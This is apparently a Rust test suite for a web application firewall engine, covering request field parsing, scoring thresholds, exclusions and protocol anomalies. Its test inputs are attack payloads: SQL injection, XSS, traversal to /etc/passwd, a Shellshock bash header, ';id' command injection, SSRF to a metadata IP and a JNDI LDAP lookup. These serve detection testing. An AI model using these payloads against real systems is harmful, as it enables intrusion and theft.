use crate::config::Config;
use crate::engine::Engine;
use crate::request::{Input, Kind, Limits, View};
use crate::score::{Detector, Verdict};

fn engine(json: &str) -> Engine {
    Engine::new(Config::parse(json.as_bytes()).expect("config")).expect("engine")
}

fn input<'a>(
    path: &'a str,
    headers: &'a [(&'a [u8], &'a [u8])],
    body: Option<&'a str>,
) -> Input<'a> {
    Input {
        method: b"POST",
        path: path.as_bytes(),
        headers,
        body: body.map(str::as_bytes),
        body_truncated: false,
    }
}

fn fields(i: &Input<'_>) -> Vec<(String, Kind, String)> {
    View::build(i, Limits::default())
        .fields
        .into_iter()
        .map(|f| (f.name, f.kind, String::from_utf8_lossy(&f.raw).into_owned()))
        .collect()
}

#[test]
fn view_names_query_header_cookie_and_json_fields() {
    let h: &[(&[u8], &[u8])] = &[
        (b"User-Agent", b"curl/8"),
        (b"cookie", b"sid=abc; theme=dark"),
        (b"content-type", b"application/json; charset=utf-8"),
        (b":authority", b"example.com"),
    ];
    let i = input(
        "/api/x?id=1&q=a+b",
        h,
        Some(r#"{"user":{"name":"Ann","tags":["a",2,null]},"$ne":"x"}"#),
    );
    let names: Vec<String> = fields(&i).into_iter().map(|f| f.0).collect();
    assert_eq!(
        names,
        [
            "path",
            "query-name[0]",
            "query.id",
            "query-name[1]",
            "query.q",
            "header.user-agent",
            "cookie.sid",
            "cookie.theme",
            "body.$.user.name",
            "body.$.user.tags[0]",
            "body.$.$ne#key",
            "body.$.$ne",
        ]
    );
}

#[test]
fn form_and_xml_bodies_become_fields() {
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/x-www-form-urlencoded")];
    let f = fields(&input("/", h, Some("a=1&b=x%27")));
    assert!(f.contains(&("body.b".into(), Kind::ParamValue, "x%27".into())));
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"text/xml")];
    let f = fields(&input(
        "/",
        h,
        Some(r#"<?xml version="1.0"?><a x="1"><!-- c --><b>hi</b><![CDATA[<raw>]]></a>"#),
    ));
    let names: Vec<&str> = f.iter().map(|f| f.0.as_str()).collect();
    assert_eq!(names, ["path", "body.xml.a@x", "body.xml.b", "body.xml.b"]);
    // An unterminated tag: scanned whole.
    let f = fields(&input("/", h, Some("<a><b")));
    assert_eq!(f[1].1, Kind::XmlBody);
}

#[test]
fn malformed_json_is_a_finding_and_scanned_as_text() {
    let e = engine("{}");
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/json")];
    let out = e.evaluate(&input("/", h, Some("{\"a\": \"1' or '1'='1\"")));
    let rules: Vec<&str> = out.score.findings.iter().map(|f| f.rule).collect();
    assert!(rules.contains(&"protocol.malformed-json"), "{rules:?}");
    assert!(rules.contains(&"sqli.libinjection"), "{rules:?}");
    assert_eq!(out.verdict, Verdict::Block);
}

#[test]
fn deep_json_and_many_fields_are_bounded() {
    let e = engine("{}");
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/json")];
    // Past the depth cap the rest is skipped without recursion: one
    // finding, not a crash; unbalanced, it is malformed.
    let deep = "[".repeat(10_000) + &"]".repeat(10_000);
    let out = e.evaluate(&input("/", h, Some(&deep)));
    let rules: Vec<&str> = out.score.findings.iter().map(|f| f.rule).collect();
    assert_eq!(rules, ["protocol.json-too-deep"]);
    let out = e.evaluate(&input("/", h, Some(&deep[..15_000])));
    let rules: Vec<&str> = out.score.findings.iter().map(|f| f.rule).collect();
    assert_eq!(rules, ["protocol.malformed-json"]);
    let many = format!(
        "[{}]",
        (0..5000)
            .map(|i| format!("\"v{i}\""))
            .collect::<Vec<_>>()
            .join(",")
    );
    let i = input("/", h, Some(&many));
    let view = View::build(&i, Limits::default());
    assert_eq!(view.fields.len(), Limits::default().max_fields);
    let out = e.evaluate(&i);
    let capped: Vec<_> = out
        .score
        .findings
        .iter()
        .filter(|f| f.rule == "protocol.too-many-fields")
        .collect();
    assert_eq!(capped.len(), 1);
}

#[test]
fn findings_name_field_and_offset_never_the_value() {
    let e = engine("{}");
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/json")];
    let out = e.evaluate(&input(
        "/",
        h,
        Some(r#"{"user":{"bio":"hi ; cat /etc/passwd"}}"#),
    ));
    let json = serde_json::to_string(&out.score).expect("serialises");
    assert!(json.contains("body.$.user.bio"), "{json}");
    assert!(!json.contains("passwd"), "{json}");
    let cmd = out
        .score
        .findings
        .iter()
        .find(|f| f.detector == Detector::Cmdi)
        .expect("cmdi finding");
    assert_eq!(cmd.offset, 5);
}

#[test]
fn thresholds_give_pass_detect_block() {
    let e = engine(r#"{"detection_threshold": 3, "blocking_threshold": 8}"#);
    let none: &[(&[u8], &[u8])] = &[];
    assert_eq!(
        e.evaluate(&input("/?q=hello", none, None)).verdict,
        Verdict::Pass
    );
    // One critical (5): detected, not blocked at 8.
    let out = e.evaluate(&input("/?q=1%27%20or%20%271%27=%271", none, None));
    assert_eq!(out.score.total, 5);
    assert_eq!(out.verdict, Verdict::Detect);
    // Traversal and the sensitive file it climbs to: 5 + 5.
    let out = e.evaluate(&input("/?f=../../etc/passwd", none, None));
    assert_eq!(out.score.total, 10);
    assert_eq!(out.verdict, Verdict::Block);
}

#[test]
fn exclusions_and_routes() {
    let cfg = r#"{
        "exclusions": [{"fields": ["query.sql"], "detectors": ["sqli"]},
                       {"fields": ["body.$.ticket.*"]}],
        "routes": [{"path_prefix": "/admin", "blocking_threshold": 100,
                    "exclusions": [{"fields": ["query.q"], "detectors": ["xss"]}]}]
    }"#;
    let e = engine(cfg);
    let none: &[(&[u8], &[u8])] = &[];
    let sqli = "/?sql=1%27%20or%20%271%27=%271";
    assert_eq!(e.evaluate(&input(sqli, none, None)).score.total, 0);
    // The same value in another parameter still counts.
    let other = "/?id=1%27%20or%20%271%27=%271";
    assert_eq!(
        e.evaluate(&input(other, none, None)).verdict,
        Verdict::Block
    );
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/json")];
    let body = r#"{"ticket":{"text":"<script>alert(1)</script>"},"x":"<script>alert(1)</script>"}"#;
    let out = e.evaluate(&input("/", h, Some(body)));
    let fields: Vec<&str> = out
        .score
        .findings
        .iter()
        .map(|f| f.field.as_str())
        .collect();
    assert_eq!(fields, ["body.$.x"]);
    // Route: xss excluded on query.q, and a higher blocking threshold.
    let xss = "/admin/x?q=%3Cscript%3Ealert(1)%3C/script%3E&r=%3Cscript%3Ealert(1)%3C/script%3E";
    let out = e.evaluate(&input(xss, none, None));
    let fields: Vec<&str> = out
        .score
        .findings
        .iter()
        .map(|f| f.field.as_str())
        .collect();
    assert_eq!(fields, ["query.r"]);
    assert_eq!(out.verdict, Verdict::Detect);
}

#[test]
fn disabled_detector_does_not_run() {
    let e = engine(r#"{"detectors": {"sqli": {"enabled": false}}}"#);
    let none: &[(&[u8], &[u8])] = &[];
    let out = e.evaluate(&input("/?id=1%27%20or%20%271%27=%271", none, None));
    assert!(!out.score.detected_by(Detector::Sqli));
}

#[test]
fn protocol_anomalies() {
    let e = engine("{}");
    let rules = |h: &[(&[u8], &[u8])], path: &str| {
        e.evaluate(&input(path, h, None))
            .score
            .findings
            .iter()
            .map(|f| f.rule)
            .collect::<Vec<_>>()
    };
    let smuggle: &[(&[u8], &[u8])] = &[
        (b"content-length", b"4"),
        (b"transfer-encoding", b"chunked"),
    ];
    assert_eq!(
        rules(smuggle, "/"),
        ["protocol.content-length-with-transfer-encoding"]
    );
    let dup: &[(&[u8], &[u8])] = &[(b"content-length", b"4"), (b"content-length", b"5")];
    assert_eq!(rules(dup, "/"), ["protocol.duplicate-header"]);
    let te: &[(&[u8], &[u8])] = &[(b"transfer-encoding", b"chunked, identity")];
    assert_eq!(rules(te, "/"), ["protocol.bad-transfer-encoding"]);
    let cl: &[(&[u8], &[u8])] = &[(b"content-length", b"+4")];
    assert_eq!(rules(cl, "/"), ["protocol.bad-content-length"]);
    let ctl: &[(&[u8], &[u8])] = &[(b"x-a", b"a\r\nb")];
    assert_eq!(rules(ctl, "/"), ["protocol.control-char"]);
    let big = vec![b'a'; 9000];
    let huge: &[(&[u8], &[u8])] = &[(b"x-big", &big)];
    assert_eq!(rules(huge, "/"), ["protocol.oversized-header"]);
    let none: &[(&[u8], &[u8])] = &[];
    assert_eq!(rules(none, "/a%zz"), ["protocol.bad-percent-encoding"]);
    assert!(rules(none, "/a%00.php").contains(&"protocol.nul"));
    assert!(rules(none, "/%c0%af..%c0%afetc").contains(&"protocol.overlong-utf8"));
    assert!(rules(none, "/plain/path?a=1").is_empty());
}

#[test]
fn structured_headers_are_not_scanned_for_injection() {
    let e = engine("{}");
    let h: &[(&[u8], &[u8])] = &[
        (
            b"accept",
            b"text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
        ),
        (b"authorization", b"Bearer a'or'1'='1"),
        (
            b"user-agent",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        ),
    ];
    assert_eq!(e.evaluate(&input("/", h, None)).score.total, 0);
    let h: &[(&[u8], &[u8])] = &[(b"user-agent", b"<script>alert(1)</script>")];
    assert!(e
        .evaluate(&input("/", h, None))
        .score
        .detected_by(Detector::Xss));
}

#[test]
fn a_rule_counts_once_per_field() {
    let e = engine("{}");
    let none: &[(&[u8], &[u8])] = &[];
    let out = e.evaluate(&input(
        "/?u=http://127.0.0.1/%20http://localhost/%20http://169.254.169.254/",
        none,
        None,
    ));
    let rules: Vec<&str> = out.score.findings.iter().map(|f| f.rule).collect();
    assert_eq!(rules, ["ssrf.loopback", "ssrf.metadata-ip"]);
    assert_eq!(out.score.total, 4 + 5);
}

#[test]
fn multipart_parts_and_file_names_are_fields() {
    let e = engine("{}");
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"multipart/form-data; boundary=\"XyZ\"")];
    let body = "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' or '1'='1\r\n\
                --XyZ\r\nContent-Disposition: form-data; name=\"up\"; filename=\"../../etc/passwd\"\r\n\
                Content-Type: application/octet-stream\r\n\r\n<script>not scanned</script>\r\n--XyZ--\r\n";
    let i = input("/", h, Some(body));
    let names: Vec<String> = fields(&i).into_iter().map(|f| f.0).collect();
    assert_eq!(names, ["path", "body.q", "body.up#filename"]);
    let out = e.evaluate(&i);
    let found: Vec<(&str, &str)> = out
        .score
        .findings
        .iter()
        .map(|f| (f.rule, f.field.as_str()))
        .collect();
    assert_eq!(
        found,
        [
            ("sqli.libinjection", "body.q"),
            ("traversal.dotdot", "body.up#filename"),
            ("traversal.sensitive-file", "body.up#filename")
        ]
    );
    // No boundary: a finding, and the body is scanned whole.
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"multipart/form-data")];
    let out = e.evaluate(&input("/", h, Some("<script>alert(1)</script>")));
    let rules: Vec<&str> = out.score.findings.iter().map(|f| f.rule).collect();
    assert_eq!(rules, ["protocol.malformed-multipart", "xss.libinjection"]);
}

/// The cache of clean header and cookie values never changes an outcome:
/// each request, evaluated after many others by one engine, scores as it
/// does on a fresh engine; a repeat differing in one byte, or with the
/// detector excluded for that header, is judged on its own.
#[test]
fn clean_value_cache_never_changes_an_outcome() {
    let values: &[&str] = &[
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0'or 1=1--",
        "() { :; }; /bin/bash -c 'id'",
        "<script>alert(1)</script>",
        "https://app.example.com/orders?page=2",
        "../../etc/passwd",
        "session=6f1c2a9e4b7d8c3f; theme=dark",
        "session=6f1c2a9e4b7d8c3f; theme=dark' union select 1--",
    ];
    let shared = engine("{}");
    let excluded =
        engine(r#"{"exclusions":[{"fields":["header.user-agent"],"detectors":["sqli"]}]}"#);
    for round in 0..3 {
        for (i, v) in values.iter().enumerate() {
            let name: &[u8] = if i % 2 == 0 { b"user-agent" } else { b"cookie" };
            let h: &[(&[u8], &[u8])] = &[(name, v.as_bytes()), (b"x-other", v.as_bytes())];
            let req = input("/", h, None);
            let fresh = engine("{}").evaluate(&req);
            assert_eq!(shared.evaluate(&req), fresh, "round {round}: {v}");
            let fresh =
                engine(r#"{"exclusions":[{"fields":["header.user-agent"],"detectors":["sqli"]}]}"#)
                    .evaluate(&req);
            assert_eq!(excluded.evaluate(&req), fresh, "round {round}: {v}");
        }
    }
    // The flagged value differs from a cached clean one by a suffix only.
    let h: &[(&[u8], &[u8])] = &[(b"user-agent", values[1].as_bytes())];
    assert!(shared.evaluate(&input("/", h, None)).score.total >= 5);
}

/// RFC 2046: a delimiter starts a line. A `--boundary` inside a field's
/// text does not open a file part that would hide the rest of the field.
#[test]
fn multipart_delimiter_only_at_line_start() {
    let e = engine("{}");
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"multipart/form-data; boundary=B")];
    let body = "--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n\
                x--B\r\nContent-Disposition: form-data; name=\"a\"; filename=\"f\"\r\n\r\n\
                ' UNION SELECT password FROM users--\r\n--B--\r\n";
    let i = input("/", h, Some(body));
    let f = fields(&i);
    let names: Vec<&str> = f.iter().map(|f| f.0.as_str()).collect();
    assert_eq!(names, ["path", "body.a"]);
    assert!(f[1].2.ends_with("' UNION SELECT password FROM users--"));
    assert!(f[1].2.starts_with("x--B\r\n"));
    assert_eq!(e.evaluate(&i).verdict, Verdict::Block);
    // Bare LF line breaks are read leniently; the part ends before the LF.
    let body = "--B\nContent-Disposition: form-data; name=\"q\"\n\nv1\n--B\n\
                Content-Disposition: form-data; name=\"r\"\n\nv2\n--B--\n";
    let f = fields(&input("/", h, Some(body)));
    let got: Vec<(&str, &str)> = f[1..]
        .iter()
        .map(|f| (f.0.as_str(), f.2.as_str()))
        .collect();
    assert_eq!(got, [("body.q", "v1"), ("body.r", "v2")]);
}

/// Query padding past `max_fields` neither hides headers, cookies or the
/// body from the scan nor goes unpunished: the over-limit finding blocks.
#[test]
fn padding_one_source_does_not_starve_the_others() {
    let e = engine("{}");
    let path = format!("/s?{}", "a=1&".repeat(400));
    let h: &[(&[u8], &[u8])] = &[
        (b"content-type", b"application/x-www-form-urlencoded"),
        (b"x-note", b"<script>alert(1)</script>"),
        (b"cookie", b"sid=1' OR '1'='1"),
    ];
    let i = input(
        &path,
        h,
        Some("q=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
    );
    let view = View::build(&i, Limits::default());
    assert_eq!(view.fields.len(), Limits::default().max_fields);
    let names: Vec<&str> = view.fields.iter().map(|f| f.name.as_str()).collect();
    for want in ["header.x-note", "cookie.sid", "body.q", "query-name[0]"] {
        assert!(names.contains(&want), "{want} not scanned");
    }
    let out = e.evaluate(&i);
    let fields_hit = |rule: &str| -> Vec<String> {
        out.score
            .findings
            .iter()
            .filter(|f| f.rule == rule)
            .map(|f| f.field.clone())
            .collect()
    };
    assert_eq!(fields_hit("protocol.too-many-fields").len(), 1);
    assert!(fields_hit("xss.libinjection").contains(&"header.x-note".to_string()));
    assert!(fields_hit("sqli.libinjection").contains(&"body.q".to_string()));
    assert_eq!(out.verdict, Verdict::Block);
    // Padding alone blocks at the default thresholds too.
    let out = e.evaluate(&input(&path, &[], None));
    assert_eq!(out.verdict, Verdict::Block);
}

/// Every occurrence of a repeated JSON key is scanned (a first-wins upstream
/// reads the first), in document order, with the usual names and bounds.
#[test]
fn json_duplicate_keys_nesting_depth_and_malformed() {
    let e = engine("{}");
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/json")];
    let i = input("/", h, Some(r#"{"q":"' OR 1=1--","q":"x"}"#));
    let f = fields(&i);
    let got: Vec<(&str, &str)> = f[1..]
        .iter()
        .map(|f| (f.0.as_str(), f.2.as_str()))
        .collect();
    assert_eq!(got, [("body.$.q", "' OR 1=1--"), ("body.$.q", "x")]);
    let out = e.evaluate(&i);
    assert_eq!(out.verdict, Verdict::Block);
    // Nesting, arrays, escapes and non-identifier keys.
    let body = r#"{"a":{"b":[1,"x\u0041",{"c d":"y"}],"b":{"e":true}},"z":null}"#;
    let f = fields(&input("/", h, Some(body)));
    let got: Vec<(&str, &str)> = f[1..]
        .iter()
        .map(|f| (f.0.as_str(), f.2.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            ("body.$.a.b[1]", "xA"),
            ("body.$.a.b[2].c?d#key", "c d"),
            ("body.$.a.b[2].c?d", "y"),
        ]
    );
    // Depth: strings past max_json_depth are not walked, a notice says so.
    let limits = Limits {
        max_json_depth: 2,
        ..Limits::default()
    };
    let i = input("/", h, Some(r#"{"a":{"b":"in","c":{"d":"out"}}}"#));
    let view = View::build(&i, limits);
    let names: Vec<&str> = view.fields.iter().map(|f| f.name.as_str()).collect();
    assert_eq!(names, ["path", "body.$.a.b"]);
    let notes: Vec<(&str, &str)> = view
        .anomalies
        .iter()
        .map(|a| (a.hit.rule, a.field.as_str()))
        .collect();
    assert_eq!(notes, [("protocol.json-too-deep", "body.$.a.c.d")]);
    // Malformed after a duplicate: nothing half-read is kept, the body is text.
    let i = input("/", h, Some(r#"{"q":"a","q":"b","#));
    let view = View::build(&i, Limits::default());
    let names: Vec<&str> = view.fields.iter().map(|f| f.name.as_str()).collect();
    assert_eq!(names, ["path", "body"]);
    assert_eq!(view.anomalies.len(), 1);
    assert_eq!(view.anomalies[0].hit.rule, "protocol.malformed-json");
    // Trailing bytes after the value are malformed too.
    let i = input("/", h, Some(r#"{"q":"a"} x"#));
    let view = View::build(&i, Limits::default());
    assert_eq!(view.anomalies[0].hit.rule, "protocol.malformed-json");
}

#[test]
fn command_injection_in_a_path_segment_is_blocked_and_routes_are_not() {
    let e = engine("{}");
    let get = |p: &'static str| Input {
        method: b"GET",
        path: p.as_bytes(),
        headers: &[],
        body: None,
        body_truncated: false,
    };
    for p in [
        "/api/ping/127.0.0.1;id",
        "/api/x/$(id)",
        "/cgi-bin/t.sh;uname%20-a",
    ] {
        assert_eq!(e.evaluate(&get(p)).verdict, Verdict::Block, "{p}");
    }
    for p in [
        "/api/cat/list",
        "/whoami",
        "/bin/list",
        "/api/v1/exec/status",
        "/shop;jsessionid=ABC123",
        "/wiki/Cat_(Unix)",
        "/files/report;v=2.pdf",
    ] {
        assert_eq!(e.evaluate(&get(p)).verdict, Verdict::Pass, "{p}");
    }
}

#[test]
fn json_documents_inside_values_are_read_as_json() {
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/json")];
    let body =
        r#"{"meta":"{\"tags\":[\"or\",\"update\"]}","note":"{not json}","list":" [1, \"a b\"] "}"#;
    let i = input(
        "/x?filter=%7B%22q%22%3A%22a+b%22%7D&raw=%7Bx",
        h,
        Some(body),
    );
    let got: Vec<(String, String)> = fields(&i)
        .into_iter()
        .filter(|f| f.0 != "path" && !f.0.contains("-name["))
        .map(|f| (f.0, f.2))
        .collect();
    let want = [
        ("query.filter.q", "a b"),
        ("query.raw", "%7Bx"),
        ("body.$.meta.tags[0]", "or"),
        ("body.$.meta.tags[1]", "update"),
        ("body.$.note", "{not json}"),
        ("body.$.list[1]", "a b"),
    ];
    let want: Vec<(String, String)> = want
        .iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect();
    assert_eq!(got, want);

    // Read as one value, the document's quotes look like string breakouts;
    // read as JSON, its words are words. A payload in a leaf is still seen.
    let e = engine("{}");
    let clean = e.evaluate(&input("/", h, Some(body)));
    assert_eq!(clean.verdict, Verdict::Pass, "{:?}", clean.score.findings);
    let attack = r#"{"meta":"{\"q\":\"1' or '1'='1\"}"}"#;
    let out = e.evaluate(&input("/", h, Some(attack)));
    assert_eq!(out.verdict, Verdict::Block);
    assert!(out
        .score
        .findings
        .iter()
        .all(|f| f.field == "body.$.meta.q"));
    let out = e.evaluate(&input(
        "/x?f=%7B%22q%22%3A%22%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%7D",
        &[],
        None,
    ));
    assert_eq!(out.verdict, Verdict::Block);
    assert!(out.score.findings.iter().any(|f| f.field == "query.f.q"));
}

#[test]
fn json_inside_strings_counts_toward_the_depth_cap() {
    // Each level is a string holding an array: ["[\"[\\\"...\\\"]\"]"].
    let mut v = serde_json::Value::String("' or 1=1 --".into());
    for _ in 0..10 {
        v = serde_json::Value::String(serde_json::json!([v]).to_string());
    }
    let body = serde_json::json!({ "a": v }).to_string();
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/json")];
    let i = input("/", h, Some(&body));
    let limits = Limits {
        max_json_depth: 4,
        ..Limits::default()
    };
    let body_fields = |limits| {
        View::build(&i, limits)
            .fields
            .into_iter()
            .filter(|f| f.name != "path")
            .collect::<Vec<_>>()
    };
    // Walked down to the cap; the string there is kept whole as a value.
    let capped = body_fields(limits);
    assert_eq!(capped.len(), 1);
    assert_eq!(capped[0].name, "body.$.a[0][0][0]");
    assert!(capped[0].raw.starts_with(b"[\""));
    let all = body_fields(Limits::default());
    assert_eq!(all.len(), 1);
    assert_eq!(all[0].raw, b"' or 1=1 --");
}

#[test]
fn java_runs_on_every_kind_of_field_and_the_documented_jsf_exclusion_holds() {
    let state = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg";
    let form = format!("javax.faces.ViewState={state}&q=1");
    let h: &[(&[u8], &[u8])] = &[(b"content-type", b"application/x-www-form-urlencoded")];
    let plain = engine("{}");
    let out = plain.evaluate(&input("/faces/page.xhtml", h, Some(&form)));
    assert_eq!(out.verdict, Verdict::Block);
    assert!(out
        .score
        .findings
        .iter()
        .any(|f| f.detector == Detector::Java && f.field == "body.javax.faces.ViewState"));
    let excluded = engine(
        r#"{"exclusions": [{"fields": ["body.javax.faces.ViewState"], "detectors": ["java"]}]}"#,
    );
    let out = excluded.evaluate(&input("/faces/page.xhtml", h, Some(&form)));
    assert_eq!(out.verdict, Verdict::Pass, "{:?}", out.score);
    // The path and a header are read too.
    let lookup = "${jndi:ldap://x.example/a}";
    let ua: &[(&[u8], &[u8])] = &[(b"user-agent", lookup.as_bytes())];
    assert_eq!(
        plain.evaluate(&input("/", ua, None)).verdict,
        Verdict::Block
    );
    let path = "/a/%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D";
    assert_eq!(
        plain.evaluate(&input(path, &[], None)).verdict,
        Verdict::Block
    );
}
